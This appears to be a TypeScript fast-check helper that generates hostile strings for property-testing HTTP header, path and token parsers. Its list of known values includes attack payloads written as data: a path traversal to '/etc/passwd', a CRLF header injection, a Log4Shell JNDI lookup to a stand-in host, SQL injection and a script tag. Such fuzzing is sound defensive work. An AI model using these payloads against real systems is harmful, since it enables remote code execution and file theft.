import fc from "fast-check";

/** Values that parsers of headers, paths, numbers and addresses handle wrongly when they are careless. */
const KNOWN = [
  "",
  " ",
  "*",
  ",",
  ";;==",
  '"',
  "\\",
  "%",
  "%00",
  "%ff%fe",
  "%2e%2e/",
  "../../etc/passwd",
  "\u0000",
  "\u0007",
  "\u007F",
  "\t\t",
  "é",
  "\u00FF\u00FE",
  "-1",
  "1e309",
  "NaN",
  "9007199254740993",
  "0x10",
  "+5",
  "true",
  "null",
  "__proto__",
  "constructor",
  "[object Object]",
  "for=unknown;proto=https",
  "https",
  "127.0.0.1",
  "127.0.0.1:65536",
  "[::1]:443",
  "fe80::1%eth0",
  "::ffff:127.0.0.1",
  "localhost",
  "evil.example\r\nX-Injected: 1",
  "a\nb",
  "<script>",
  "${jndi:ldap://evil.example}",
  "' OR 1=1 --",
] as const;

const long = fc.tuple(fc.constantFrom(..."a ,;%/\u0080"), fc.constantFrom(100, 1000, 9000, 20_000));

/** Any hostile text. Its characters stand for bytes. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...KNOWN) },
  { weight: 1, arbitrary: long.map(([character, times]) => character.repeat(times)) },
  {
    weight: 3,
    arbitrary: fc
      .array(fc.integer({ min: 0, max: 255 }), { maxLength: 40 })
      .map((codes) => String.fromCharCode(...codes)),
  },
);

/** Hostile text that HTTP accepts in the value of a header. */
export const hostileValue: fc.Arbitrary<string> = hostileText.map((text) =>
  text.replaceAll(/[^\t\P{Cc}\u0080-\u009F]/gu, ""),
);

/** Hostile text that HTTP accepts in a path. */
export const hostilePath: fc.Arbitrary<string> = hostileText.map((text) =>
  text.replaceAll(/[^\u0021-\u007E]/g, "%"),
);

/** Hostile text that HTTP accepts as the name of a header. */
export const hostileToken: fc.Arbitrary<string> = hostileText.map(
  (text) => `x${text.replaceAll(/[^\w!#$%&'*+.^`|~-]/g, "")}`,
);
